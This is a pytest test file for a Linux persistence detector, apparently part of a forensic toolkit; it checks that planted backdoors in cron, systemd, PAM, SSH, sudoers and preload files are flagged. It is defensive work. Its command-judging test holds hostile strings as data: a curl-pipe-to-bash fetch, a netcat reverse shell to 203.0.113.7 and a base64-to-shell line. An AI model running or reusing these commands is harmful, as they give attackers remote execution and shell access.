"""Persistence artifacts: each planted backdoor is a finding with its file and line; stock files are not."""

from __future__ import annotations

from pathlib import Path

import pytest

from breachkit.detect.persistence import check_all
from breachkit.detect.persistence.base import judge_command
from breachkit.findings import Finding, Severity
from breachkit.sources import RootSource
from tests.detect.conftest import DATA, place

P = DATA / "persistence"

LAYOUT = [
    ("/etc/passwd", "passwd"),
    ("/etc/shadow", "shadow"),
    ("/etc/group", "group"),
    ("/etc/crontab", "crontab"),
    ("/etc/cron.d/php", "cron.d_php"),
    ("/var/spool/cron/crontabs/www-data", "crontab_www-data"),
    ("/var/spool/cron/crontabs/thomas", "crontab_thomas"),
    ("/var/spool/cron/atjobs/a0000101a2b3c4", "atjob"),
    ("/etc/systemd/system/fontcache.service", "evil.service"),
    ("/lib/systemd/system/apache2.service", "apache2.service"),
    ("/etc/systemd/system/ssh.service.d/override.conf", "dropin.conf"),
    ("/home/thomas/.config/systemd/user/upd.service", "user.timer.service"),
    ("/etc/systemd/system-generators/netfix", "rc.local"),
    ("/etc/rc.local", "rc.local"),
    ("/etc/profile.d/motd.sh", "profile.d_motd.sh"),
    ("/root/.bashrc", "bashrc_root"),
    ("/root/.ssh/authorized_keys", "authorized_keys_root"),
    ("/var/www/.ssh/authorized_keys", "authorized_keys_www"),
    ("/etc/ssh/sshd_config", "sshd_config"),
    ("/etc/ssh/sshd_config.d/zz.conf", "sshd_config.d_zz.conf"),
    ("/etc/ld.so.preload", "ld.so.preload"),
    ("/etc/ld.so.conf.d/evil.conf", "ld.so.conf.d_evil.conf"),
    ("/etc/pam.d/sshd", "pam_sshd"),
    ("/etc/pam.d/common-auth", "pam_common-auth"),
    ("/etc/sudoers", "sudoers"),
    ("/etc/sudoers.d/web", "sudoers.d_web"),
    ("/etc/sudoers.d/admins", "sudoers.d_admins"),
    ("/etc/modules", "modules"),
    ("/etc/modprobe.d/evil.conf", "modprobe_evil.conf"),
    ("/etc/udev/rules.d/99-net.rules", "udev_99.rules"),
    ("/var/www/shop/.git/hooks/post-merge", "post-merge"),
    ("/var/www/shop/.git/hooks/pre-commit.sample", "pre-commit.sample"),
]


@pytest.fixture(scope="module")
def findings(tmp_path_factory: pytest.TempPathFactory) -> list[Finding]:
    root = tmp_path_factory.mktemp("persist") / "root"
    place(root, [(host, P / name) for host, name in LAYOUT])
    # PAM modules: one owned by a package, one stray
    place(
        root,
        [
            ("/lib/x86_64-linux-gnu/security/pam_unix.so", b"\x7fELF"),
            ("/lib/x86_64-linux-gnu/security/pam_unix2.so", b"\x7fELF"),
            (
                "/var/lib/dpkg/info/libpam-modules:amd64.md5sums",
                "0123456789abcdef0123456789abcdef  lib/x86_64-linux-gnu/security/pam_unix.so\n",
            ),
        ],
    )
    source = RootSource(str(root))
    try:
        return list(check_all(source).findings)
    finally:
        source.close()


def _find(findings: list[Finding], check: str, path: str, line: int | None = None) -> Finding:
    for finding in findings:
        if finding.check != check:
            continue
        for item in finding.evidence:
            if item.path == path and (line is None or item.line == line):
                return finding
    raise AssertionError(f"no {check} finding for {path}:{line}; have {[(f.check, f.title) for f in findings]}")


@pytest.mark.parametrize(
    ("check", "path", "line", "severity"),
    [
        ("persistence.cron", "/etc/crontab", 4, Severity.CRITICAL),
        ("persistence.cron", "/var/spool/cron/crontabs/www-data", 2, Severity.HIGH),
        ("persistence.at", "/var/spool/cron/atjobs/a0000101a2b3c4", 10, Severity.CRITICAL),
        ("persistence.systemd", "/etc/systemd/system/fontcache.service", 6, Severity.CRITICAL),
        ("persistence.systemd", "/etc/systemd/system/ssh.service.d/override.conf", 2, Severity.HIGH),
        ("persistence.systemd", "/home/thomas/.config/systemd/user/upd.service", 2, Severity.HIGH),
        ("persistence.systemd", "/etc/systemd/system-generators/netfix", None, Severity.HIGH),
        ("persistence.initscripts", "/etc/rc.local", 2, Severity.HIGH),
        ("persistence.shellrc", "/root/.bashrc", 6, Severity.CRITICAL),
        ("persistence.shellrc", "/root/.bashrc", 7, Severity.CRITICAL),
        ("persistence.ssh-keys", "/root/.ssh/authorized_keys", 2, Severity.HIGH),
        ("persistence.ssh-keys", "/var/www/.ssh/authorized_keys", 1, Severity.CRITICAL),
        ("persistence.sshd-config", "/etc/ssh/sshd_config.d/zz.conf", 1, Severity.HIGH),
        ("persistence.sshd-config", "/etc/ssh/sshd_config.d/zz.conf", 2, Severity.HIGH),
        ("persistence.preload", "/etc/ld.so.preload", 1, Severity.CRITICAL),
        ("persistence.preload", "/etc/ld.so.conf.d/evil.conf", 1, Severity.HIGH),
        ("persistence.pam", "/etc/pam.d/sshd", 2, Severity.CRITICAL),
        ("persistence.pam", "/etc/pam.d/common-auth", 4, Severity.HIGH),
        ("persistence.pam", "/lib/x86_64-linux-gnu/security/pam_unix2.so", None, Severity.CRITICAL),
        ("persistence.sudoers", "/etc/sudoers.d/web", 1, Severity.CRITICAL),
        ("persistence.accounts", "/etc/passwd", 5, Severity.CRITICAL),
        ("persistence.accounts", "/etc/passwd", 3, Severity.MEDIUM),
        ("persistence.accounts", "/etc/passwd", 7, Severity.HIGH),
        ("persistence.accounts", "/etc/shadow", 3, Severity.HIGH),
        ("persistence.accounts", "/etc/group", 2, Severity.HIGH),
        ("persistence.kernel-modules", "/etc/modules", 3, Severity.CRITICAL),
        ("persistence.kernel-modules", "/etc/modprobe.d/evil.conf", 2, Severity.MEDIUM),
        ("persistence.udev", "/etc/udev/rules.d/99-net.rules", 1, Severity.HIGH),
        ("persistence.git-hooks", "/var/www/shop/.git/hooks/post-merge", None, Severity.CRITICAL),
    ],
)
def test_planted_persistence_is_found(
    findings: list[Finding], check: str, path: str, line: int | None, severity: Severity
) -> None:
    finding = _find(findings, check, path, line)
    assert finding.severity >= severity, finding
    assert finding.reason and finding.next_step


def test_stock_entries_are_not_flagged(findings: list[Finding]) -> None:
    flagged = {(item.path, item.line) for f in findings if f.severity >= Severity.MEDIUM for item in f.evidence}
    assert ("/etc/cron.d/php", 1) not in flagged
    assert ("/etc/crontab", 3) not in flagged
    assert not any(path == "/lib/systemd/system/apache2.service" for path, _ in flagged)
    assert ("/root/.bashrc", 3) not in flagged  # eval "$(dircolors -b)"
    assert ("/root/.bashrc", 5) not in flagged  # . "$HOME/.cargo/env"
    assert ("/etc/passwd", 4) not in flagged  # postgres has bash by design
    assert ("/etc/sudoers.d/admins", 1) not in flagged
    assert ("/etc/modprobe.d/evil.conf", 1) not in flagged
    assert ("/lib/x86_64-linux-gnu/security/pam_unix.so", None) not in flagged
    assert not any(path and path.endswith(".sample") for path, _ in flagged)
    assert not any(path == "/etc/profile.d/motd.sh" for path, _ in flagged)


def test_plain_user_crontab_is_low(findings: list[Finding]) -> None:
    assert _find(findings, "persistence.cron", "/var/spool/cron/crontabs/thomas", 2).severity == Severity.LOW


@pytest.mark.parametrize(
    ("command", "worst"),
    [
        ("*/5 * * * * /tmp/.X11-cache/run.sh >/dev/null 2>&1", Severity.HIGH),
        ("curl -s http://x/a.sh | bash", Severity.CRITICAL),
        ("python3 -c 'import pty;pty.spawn(\"/bin/sh\")'", Severity.HIGH),
        ("nc -e /bin/sh 203.0.113.7 4444", Severity.CRITICAL),
        ("echo aGVsbG8= | base64 -d | sh", Severity.HIGH),
        ("/usr/bin/php /var/www/shop/cron/sitemap.php", None),
        ("test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", None),
        ('fn="$(mktemp /tmp/testwriteable.XXXXXXXXXX)" || return 1', None),
    ],
)
def test_judge_command(command: str, worst: Severity | None) -> None:
    risk = judge_command(command)
    assert (risk.severity if risk else None) == worst


def test_missing_artifacts_are_not_warnings(tmp_path: Path) -> None:
    (tmp_path / "root").mkdir()
    result = check_all(RootSource(str(tmp_path / "root")))
    assert result.findings == () and result.warnings == ()


def test_a_directory_where_a_file_should_be_is_a_warning(tmp_path: Path) -> None:
    root = tmp_path / "root"
    (root / "etc/passwd").mkdir(parents=True)
    result = check_all(RootSource(str(root)))
    assert any(w.path == "/etc/passwd" for w in result.warnings)
